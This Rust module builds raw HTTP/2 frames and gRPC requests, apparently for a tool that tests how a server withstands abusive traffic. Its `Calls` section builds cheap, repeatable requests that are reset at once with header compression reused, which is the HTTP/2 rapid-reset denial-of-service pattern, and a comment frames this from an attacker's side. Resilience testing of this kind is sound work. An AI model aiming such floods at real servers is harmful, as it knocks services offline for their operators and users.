//! HTTP/2 frames, and gRPC requests in them.

use crate::target::Target;

/// What a client sends first.
pub(crate) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// The setting `SETTINGS_INITIAL_WINDOW_SIZE`.
pub(crate) const INITIAL_WINDOW_SIZE: u16 = 4;

/// The type of a frame.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Kind {
    Data = 0,
    Headers = 1,
    Priority = 2,
    ResetStream = 3,
    Settings = 4,
    GoAway = 7,
    WindowUpdate = 8,
    Continuation = 9,
}

/// The flag `END_STREAM` of DATA and HEADERS.
pub(crate) const END_STREAM: u8 = 1;
/// The flag `END_HEADERS` of HEADERS and CONTINUATION.
pub(crate) const END_HEADERS: u8 = 4;

/// Returns a frame.
pub(crate) fn frame(kind: Kind, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = u32::try_from(payload.len()).unwrap().to_be_bytes()[1..].to_vec();
    frame.extend([kind as u8, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// Returns a SETTINGS frame.
pub(crate) fn settings(settings: &[(u16, u32)]) -> Vec<u8> {
    let payload: Vec<_> =
        settings.iter().flat_map(|(id, value)| [&id.to_be_bytes()[..], &value.to_be_bytes()].concat()).collect();
    frame(Kind::Settings, 0, 0, &payload)
}

/// The header fields of a call of this method.
pub(crate) fn fields(path: &str) -> [(&str, &str); 6] {
    [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "service"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
}

/// Returns header fields as HPACK has them: literals without indexing, not compressed.
pub(crate) fn block(fields: &[(&str, &str)]) -> Vec<u8> {
    literals(0, fields)
}

/// Returns literals of this type.
fn literals(first: u8, fields: &[(&str, &str)]) -> Vec<u8> {
    let literal = |text: &str| {
        // An integer with a prefix of seven bits.
        let mut length = Vec::new();
        if let Ok(short @ ..=126) = u8::try_from(text.len()) {
            length.push(short);
        } else {
            length.push(127);
            let mut rest = text.len() - 127;
            while rest >= 128 {
                length.push(u8::try_from(rest % 128).unwrap() | 128);
                rest /= 128;
            }
            length.push(u8::try_from(rest).unwrap());
        }
        [&length, text.as_bytes()].concat()
    };
    fields.iter().flat_map(|(name, value)| [vec![first], literal(name), literal(value)].concat()).collect()
}

/// Returns the headers of a request, whose message is to follow.
pub(crate) fn headers(stream: u32, path: &str) -> Vec<u8> {
    headers_with(stream, path, &[])
}

/// Returns the headers of a request with more fields.
pub(crate) fn headers_with(stream: u32, path: &str, more: &[(&str, &str)]) -> Vec<u8> {
    frame(Kind::Headers, END_HEADERS, stream, &block(&[&fields(path), more].concat()))
}

/// Returns a message with gRPC's prefix.
pub(crate) fn framed(message: &[u8]) -> Vec<u8> {
    [&[0], &u32::try_from(message.len()).unwrap().to_be_bytes()[..], message].concat()
}

/// Returns a part of a request.
pub(crate) fn data(stream: u32, bytes: &[u8]) -> Vec<u8> {
    frame(Kind::Data, 0, stream, bytes)
}

/// Returns the message of a request, and its end.
pub(crate) fn message(stream: u32, message: &[u8]) -> Vec<u8> {
    frame(Kind::Data, END_STREAM, stream, &framed(message))
}

/// Returns a call of the target's method.
pub(crate) fn call(stream: u32, target: Target) -> Vec<u8> {
    [headers(stream, target.path()), message(stream, target.message())].concat()
}

/// Returns a frame that resets a stream with CANCEL.
pub(crate) fn reset(stream: u32) -> Vec<u8> {
    frame(Kind::ResetStream, 0, stream, &8_u32.to_be_bytes())
}

/// Returns a frame that enlarges the window of a stream.
pub(crate) fn window_update(stream: u32, increment: u32) -> Vec<u8> {
    frame(Kind::WindowUpdate, 0, stream, &increment.to_be_bytes())
}

/// Returns a frame that makes a stream depend on another one.
pub(crate) fn priority(stream: u32, on: u32) -> Vec<u8> {
    frame(Kind::Priority, 0, stream, &[&on.to_be_bytes()[..], &[16]].concat())
}

/// Returns the number of the stream of the call with this index.
pub(crate) fn stream(call: u32) -> u32 {
    2 * call + 1
}

/// Calls that a client repeats without making their bytes again: an attacker needs little of its processor.
pub(crate) struct Calls {
    bytes: Vec<u8>,
    count: u32,
}

// === impl Calls ===

impl Calls {
    /// Returns calls that are reset at once. The first adds the fields to the table of HPACK, the others have them in a
    /// byte each.
    pub(crate) fn reset_at_once(target: Target, count: u32) -> Self {
        let fields = fields(target.path());
        let indexed: Vec<_> = (0..u8::try_from(fields.len()).unwrap()).rev().map(|age| 0x80 | (62 + age)).collect();
        let first = literals(0x40, &fields);
        let call = |index| {
            let (stream, block) = (stream(index), if index == 0 { &first } else { &indexed });
            [frame(Kind::Headers, END_HEADERS, stream, block), message(stream, target.message()), reset(stream)]
                .concat()
        };
        Self { bytes: (0..count).flat_map(call).collect(), count }
    }

    pub(crate) fn bytes(&self) -> &[u8] {
        &self.bytes
    }

    /// Turns them into the next calls of the connection.
    pub(crate) fn advance(&mut self) {
        let mut start = 0;
        while start < self.bytes.len() {
            let head = &mut self.bytes[start..start + 9];
            let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
            let stream = u32::from_be_bytes([head[5], head[6], head[7], head[8]]) + 2 * self.count;
            head[5..].copy_from_slice(&stream.to_be_bytes());
            start += 9 + length;
        }
    }
}
